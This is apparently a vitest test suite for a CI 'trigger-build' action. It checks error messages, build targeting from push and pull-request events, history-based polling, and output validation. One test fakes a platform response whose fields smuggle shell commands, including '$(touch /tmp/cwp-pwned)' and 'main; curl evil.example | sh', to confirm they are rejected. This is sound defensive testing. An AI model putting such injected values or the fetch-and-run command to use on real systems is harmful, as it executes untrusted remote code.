import { fileURLToPath } from "node:url";
import { runBundle, startOtherSite, type TestPlatform, useTestPlatform } from "@cwp/action-testing";
import { describe, expect, it } from "vitest";
import { BUILD } from "./contract-spec.js";

const actionDir = fileURLToPath(new URL("..", import.meta.url));

/** A build of the service that took `seconds` and concluded: the history the next one's wait reads. */
async function concludedBuild(platform: TestPlatform, seconds: number): Promise<void> {
  await platform.control("POST", "outcomes", { kind: "build", durationSeconds: seconds });
  await fetch(`${platform.url}${BUILD}`, {
    method: "POST",
    headers: { authorization: `Bearer ${platform.tokens.org}`, "content-type": "application/json" },
    body: JSON.stringify({ branch: "main" }),
  });
  await platform.control("POST", "clock", { advanceSeconds: seconds + 1 });
}

describe("trigger-build: a newcomer's mistakes", () => {
  const platform = useTestPlatform();
  /** A build of web on main, with `extra` over it. */
  const build = (extra: Record<string, string> = {}) =>
    runBundle(actionDir, {
      inputs: {
        ...platform.connection(),
        "project-id": "platform-web",
        "service-id": "web",
        branch: "main",
        ...extra,
      },
    });

  it("names the input and the value of a wrong service id", async () => {
    await platform.reset();
    const result = await build({ "service-id": "nope" });
    expect(result.code).toBe(1);
    expect(result.stdout).toContain(
      '::error::Input "service-id": no service `nope` in project `platform-web` (',
    );
  });

  it("says a timeout shorter than the service's builds usually take, with a value from their history", async () => {
    await platform.reset();
    // Two builds of 10 minutes: the history the step reads before it waits.
    for (let i = 0; i < 2; i++) await concludedBuild(platform, 600);
    await platform.control("POST", "outcomes", { kind: "build", durationSeconds: 36_000 });
    const result = await build({ timeout: "3s" });
    expect(result.code).toBe(1);
    const advice =
      /The timeout \(3s\) is shorter than builds of service web usually take \(10m 0s, the median of the last \d+\): set timeout: \d+m\./;
    expect(result.stdout).toMatch(new RegExp(`::warning::${advice.source}`));
    expect(result.stdout).toMatch(new RegExp(`::error::.*did not conclude within 3s.*${advice.source}`));
  });

  it.each([
    ["a web page (200)", "text/html", "<!doctype html><p>Welcome"],
    ["another API's JSON (200, no data)", "application/json", '{"ok": true, "items": []}'],
  ])("says an API URL answering %s is not the API, and that nothing was started", async (_, type, answer) => {
    const site = await startOtherSite(200, { "content-type": type }, answer);
    const { url } = site;
    try {
      const result = await build({ "api-url": url });
      expect(result.code).toBe(1);
      expect(result.stdout).toContain(`${url} is not the API: check the API URL (api-url / CWP_API_URL)`);
      expect(result.stdout).not.toMatch(/outcome is unknown|may have acted/);
    } finally {
      site.close();
    }
  });
});

describe("trigger-build: what to build", () => {
  const platform = useTestPlatform();
  const inputs = () => ({
    ...platform.connection(),
    "project-id": "platform-web",
    "service-id": "web",
    wait: "false",
  });

  it("builds the pull request and its head commit on a pull_request event, and says so", async () => {
    await platform.reset();
    const head = "c".repeat(40);
    const result = await runBundle(actionDir, {
      inputs: inputs(),
      event: {
        name: "pull_request",
        payload: { number: 7, pull_request: { number: 7, head: { sha: head } } },
      },
    });
    expect(result.code, result.stdout).toBe(0);
    expect(result.stdout).toContain(`building pull request #7 at ${head}, from the pull_request event`);
    const [start] = (await platform.requests()).filter((r) => r.method === "POST");
    expect(start?.body).toEqual({ pullRequestId: 7, sha: head });
  });

  it("builds the pushed branch and commit on a push event", async () => {
    await platform.reset();
    const sha = "a".repeat(40);
    const result = await runBundle(actionDir, {
      inputs: inputs(),
      event: {
        name: "push",
        payload: { ref: "refs/heads/release/1.2", after: sha },
        ref: "refs/heads/release/1.2",
        sha,
      },
    });
    expect(result.code, result.stdout).toBe(0);
    expect(result.outputs.branch).toBe("release/1.2");
    const [start] = (await platform.requests()).filter((r) => r.method === "POST");
    expect(start?.body).toEqual({ branch: "release/1.2", sha });
  });

  it("builds a commit alone on a combined service: sends only the sha", async () => {
    await platform.reset();
    const sha = "b".repeat(40);
    const result = await runBundle(actionDir, { inputs: { ...inputs(), sha } });
    expect(result.code, result.stdout).toBe(0);
    const starts = (await platform.requests()).filter((r) => r.method === "POST");
    expect(starts.map((r) => r.body)).toEqual([{ sha }]);
    expect(result.outputs.sha).toBe(sha);
  });

  it("says a build service needs a branch or pull request when the platform refuses a sha alone", async () => {
    await platform.reset();
    const result = await runBundle(actionDir, {
      inputs: { ...inputs(), "service-id": "image-builder", sha: "b".repeat(40) },
    });
    expect(result.code).toBe(1);
    const error = result.stdout.split("\n").find((l) => l.startsWith("::error::")) ?? "";
    expect(error).toContain("Service image-builder is a build service");
    expect(error).toContain("set branch: <branch> or pull-request-id: <number> (with sha: <commit>");
    expect(error).toContain("Nothing was started");
    expect(await platform.requests()).toHaveLength(1);
  });

  it("refuses a tag push without a branch, naming the input to set", async () => {
    await platform.reset();
    const result = await runBundle(actionDir, {
      inputs: inputs(),
      event: { name: "push", payload: { ref: "refs/tags/v1" }, ref: "refs/tags/v1" },
    });
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('Input "branch"');
    expect(await platform.requests()).toEqual([]);
  });

  it("sends build arguments and Docker overrides as this build's overrides", async () => {
    await platform.reset();
    const result = await runBundle(actionDir, {
      inputs: {
        ...inputs(),
        branch: "main",
        "build-arguments": "NODE_ENV=production\nB=two=2",
        "dockerfile-path": "/docker/Dockerfile",
        "dockerfile-target": "runtime",
      },
    });
    expect(result.code, result.stdout).toBe(0);
    const [start] = (await platform.requests()).filter((r) => r.method === "POST");
    expect(start?.body).toEqual({
      branch: "main",
      overrides: {
        buildArguments: { NODE_ENV: "production", B: "two=2" },
        docker: { dockerFilePath: "/docker/Dockerfile", dockerfileTarget: "runtime" },
      },
    });
  });
});

describe("trigger-build: waiting with the service's history", () => {
  // Real time: the history the action reads is in the emulator's seconds, and its waits in ours.
  const platform = useTestPlatform({ speed: 1 });
  const BUILDS = "/v1/projects/platform-web/services/web/build";

  it("polls where the service's recent builds ended, spending at most 15 requests", async () => {
    await platform.reset();
    const start = () =>
      fetch(`${platform.url}${BUILDS}`, {
        method: "POST",
        headers: { authorization: `Bearer ${platform.tokens.org}`, "content-type": "application/json" },
        body: JSON.stringify({ branch: "main" }),
      });
    for (const durationSeconds of [3, 3, 3, 3])
      await platform.control("POST", "outcomes", { kind: "build", durationSeconds });
    for (let i = 0; i < 3; i += 1) expect((await start()).ok).toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 4_000));
    await platform.control("DELETE", "requests");

    const result = await runBundle(actionDir, {
      inputs: {
        ...platform.connection(),
        "project-id": "platform-web",
        "service-id": "web",
        branch: "main",
      },
    });
    expect(result.code, result.stdout).toBe(0);
    expect(result.stdout).toMatch(
      /The last 3 successful builds of service web took \d+s to \d+s \(median \d+s\)\./,
    );
    const log = await platform.requests();
    const started = Date.parse(log.find((r) => r.method === "POST" && r.path === BUILDS)?.time ?? "");
    const polls = log
      .filter((r) => r.method === "GET" && r.path.startsWith(`${BUILDS}/`))
      .map((r) => Date.parse(r.time) - started);
    const historyReads = log.filter((r) => r.method === "GET" && r.path === BUILDS);
    // One read of the history, then polls: none right after the start (the first is an early
    // check half way to 2.4 s, the earliest expected end), at most 15 requests in all.
    expect(historyReads).toHaveLength(1);
    expect(polls.length + historyReads.length).toBeLessThanOrEqual(15);
    expect(Math.min(...polls)).toBeGreaterThanOrEqual(300);
  });
});

describe("trigger-build: the platform's text in outputs", () => {
  const platform = useTestPlatform();

  it("sets no image, sha or branch output that is not one, and warns naming each", async () => {
    await platform.reset();
    // Every read of the build answers a concluded build whose texts would run as shell in a
    // `run:` that expands the outputs.
    await platform.control("POST", "faults", {
      method: "GET",
      path: `${BUILD}/*`,
      status: 200,
      body: {
        data: {
          id: "joyous-view-6290",
          status: "SUCCESS",
          concluded: true,
          registry: { uri: "registry.example/web:1$(touch /tmp/cwp-pwned)" },
          sha: "abc`id`",
          branch: "main; curl evil.example | sh",
        },
      },
      times: 1000,
    });
    const result = await runBundle(actionDir, {
      inputs: { ...platform.connection(), "project-id": "platform-web", "service-id": "web", branch: "main" },
    });
    expect(result.code, result.stdout).toBe(0);
    expect(result.outputs).toMatchObject({ image: "", sha: "", branch: "", status: "SUCCESS" });
    expect(result.outputs["build-id"]).toMatch(/^[a-z]+-[a-z]+-\d+$/);
    for (const [name, kind] of [
      ["image", "an image reference"],
      ["sha", "a commit sha"],
      ["branch", "a branch name"],
    ])
      expect(result.stdout).toContain(`::warning::The platform's value for output ${name} is not ${kind}`);
    expect(result.stdout).not.toContain("cwp-pwned");
  });

  it("sets a registry reference with a port, a tag and a digest as it is", async () => {
    await platform.reset();
    const image = `registry.example:5000/team/web:1.2.3@sha256:${"a".repeat(64)}`;
    await platform.control("POST", "faults", {
      method: "GET",
      path: `${BUILD}/*`,
      status: 200,
      body: {
        data: { id: "joyous-view-6290", status: "SUCCESS", concluded: true, registry: { uri: image } },
      },
      times: 1000,
    });
    const result = await runBundle(actionDir, {
      inputs: { ...platform.connection(), "project-id": "platform-web", "service-id": "web", branch: "main" },
    });
    expect(result.code, result.stdout).toBe(0);
    expect(result.outputs.image).toBe(image);
    expect(result.stdout).not.toContain("::warning::");
  });
});

describe("trigger-build: a history with an outlier", () => {
  // Real time: what matters is when the polls come, against a build of 3 s.
  const platform = useTestPlatform({ speed: 1 });

  /** A build of service web that took `seconds` on the platform's clock, concluded successfully. */
  const pastBuild = (seconds: number) => concludedBuild(platform, seconds);

  it("one build of 20 hours among builds of 3 s does not hold the next poll past a 40 s timeout", {
    timeout: 60_000,
  }, async () => {
    await platform.reset();
    await pastBuild(20 * 3600);
    for (let i = 0; i < 6; i++) await pastBuild(3);
    await platform.control("POST", "outcomes", { kind: "build", durationSeconds: 3 });
    const began = Date.now();
    const result = await runBundle(actionDir, {
      inputs: {
        ...platform.connection(),
        "project-id": "platform-web",
        "service-id": "web",
        branch: "main",
        timeout: "40s",
      },
    });
    expect(result.code, result.stdout).toBe(0);
    expect(result.outputs.status).toBe("SUCCESS");
    expect(result.stdout).toMatch(/successful builds of service web took \d+s to /);
    expect(result.endedAt - began).toBeLessThan(15_000);
  });
});
